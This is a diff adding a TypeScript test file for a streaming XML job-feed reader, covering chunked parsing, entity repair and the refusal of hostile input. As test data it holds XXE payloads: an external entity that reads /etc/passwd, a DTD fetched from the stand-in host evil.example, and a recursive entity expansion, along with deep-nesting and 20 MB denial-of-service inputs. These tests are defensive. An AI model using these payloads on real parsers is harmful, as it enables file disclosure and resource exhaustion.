@@ -1,0 +1,116 @@
+import { describe, expect, test } from "vitest";
+import type { XmlElement } from "#core/imports/readers/xml-element.ts";
+import { xmlElements } from "#core/imports/readers/xml-elements.ts";
+import { feedOf } from "../feeds.ts";
+
+async function read(content: string | Uint8Array, length = 1000) {
+  const notes: string[] = [];
+  const elements: XmlElement[] = [];
+  const input = { ...feedOf(content, length), note: (notice: string) => void notes.push(notice) };
+  const rules = { expected: "jobs", wrongRoot: () => undefined, records: ["job"] };
+  for await (const element of xmlElements(input, rules)) elements.push(element);
+  return { elements, notes };
+}
+
+const failureOf = (content: string | Uint8Array, length?: number): Promise<string> =>
+  read(content, length).then(
+    () => Promise.reject(new Error("was read")),
+    (error: Error) => {
+      expect(error).toMatchObject({ code: "invalid" });
+      return error.message;
+    },
+  );
+
+const texts = async (content: string | Uint8Array, length?: number) =>
+  (await read(content, length)).elements.map(({ children }) => children.map(({ name, text }) => [name, text]));
+
+test.each([1, 2, 7, 100_000])("reads openings in pieces of %i bytes", async (length) => {
+  const feed = `<?xml version="1.0"?>\n<a><b/>\n<job Id="1"><Title>Käse &amp; <![CDATA[<b>Brot & ]]>Wein</Title>\n<x><y>1</y></x></job></a>`;
+  const { elements } = await read(feed, length);
+  expect(elements).toMatchObject([
+    {
+      name: "job",
+      line: 3,
+      attributes: { Id: "1" },
+      children: [
+        { name: "title", text: "Käse & <b>Brot & Wein" },
+        { name: "x", line: 4 },
+      ],
+    },
+  ]);
+});
+
+describe("entities are refused (trust S 411)", () => {
+  test.each([
+    ["that double again and again", `<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;">]><a><job>&y;</job></a>`],
+    ["from a file", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a><job>&x;</job></a>`],
+    ["from an address", `<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><a/>`],
+  ])("%s", async (_, feed) => {
+    expect(await failureOf(feed)).toMatch(/^line 1: declares entities, which no feed needs/);
+  });
+
+  test("a name that nobody declared stays as it is written", async () => {
+    expect(await texts(`<!DOCTYPE a SYSTEM "https://evil.example/x.dtd"><a><job><t>&x; y</t></job></a>`)).toEqual([
+      [["t", "&x; y"]],
+    ]);
+  });
+});
+
+describe("what is too much is refused (trust S 412)", () => {
+  test("ten thousand levels", async () => {
+    expect(await failureOf(`<a>${"<b>".repeat(10_000)}`)).toMatch(
+      /^not well-formed: line 1: nested more than 100 levels deep/,
+    );
+  });
+
+  test.each(["text", "cdata", "attribute", "comment", "outside"])("20 MB in one %s", async (where) => {
+    const much = "x".repeat(20_000_000);
+    const feeds: Record<string, string> = {
+      text: `<a>\n<job><t>${much}</t></job></a>`,
+      cdata: `<a>\n<job><t><![CDATA[${much}]]></t></job></a>`,
+      attribute: `<a>\n<job t="${much}"/></a>`,
+      comment: `<a>\n<!--${much}--><job/></a>`,
+      outside: `<a>\n<b>${much}</b><job/></a>`,
+    };
+    expect(await failureOf(feeds[where] ?? "", 65_536)).toMatch(/^line \d: .* is larger than 5 million characters/);
+  });
+
+  test("a hundred thousand openings are read without holding them", async () => {
+    const opening = Buffer.from(`<job><t>${"x".repeat(2000)}</t></job>`);
+    async function* bytes() {
+      yield Buffer.from("<a>");
+      for (let count = 0; count < 100_000; count += 1) yield opening;
+      yield Buffer.from("</a>");
+    }
+    const rules = { expected: "jobs", wrongRoot: () => undefined, records: ["job"] };
+    const before = process.memoryUsage().heapUsed;
+    let [count, most] = [0, 0];
+    for await (const _ of xmlElements({ bytes: bytes() }, rules)) {
+      count += 1;
+      if (count % 5000 === 0) most = Math.max(most, process.memoryUsage().heapUsed - before);
+    }
+    expect(count).toBe(100_000);
+    expect(most).toBeLessThan(150_000_000); // the feed has 200 MB
+  }, 60_000);
+});
+
+describe("what means nothing else is repaired, and noted (trust S 414)", () => {
+  test.each([1, 3, 1000])("in pieces of %i bytes", async (length) => {
+    const feed = `<a>\n<job u="x?a=1&b=2"><t>R&D &amp; Q & A &nbsp;&eacute;t&eacute; &#65;&#x42; &foo; x\u000by</t><![CDATA[&nbsp; & ]]></job><!-- & --></a>`;
+    const { elements, notes } = await read(feed, length);
+    expect(elements[0]?.attributes).toEqual({ u: "x?a=1&b=2" });
+    expect(elements[0]?.children[0]?.text).toBe("R&D & Q & A \u00a0été AB &foo; x y");
+    expect(elements[0]?.text).toBe("&nbsp; & ");
+    expect(notes).toEqual([
+      "repaired a stray & in 4 places, first in line 2",
+      "repaired a name of HTML such as &nbsp; in 3 places, first in line 2",
+      "repaired a control character in 1 place, first in line 2",
+    ]);
+  });
+
+  test("all else is refused: a NUL, a stray <, two roots", async () => {
+    expect(await failureOf("<a>\n<job>\0</job></a>")).toMatch(/^not well-formed: line 2: disallowed character/);
+    expect(await failureOf("<a>\n<job>3 < 4</job></a>")).toMatch(/^not well-formed: line 2: /);
+    expect(await failureOf("<a/>\n<a/>")).toMatch(/^not well-formed: line 2: documents may contain only one root/);
+  });
+});
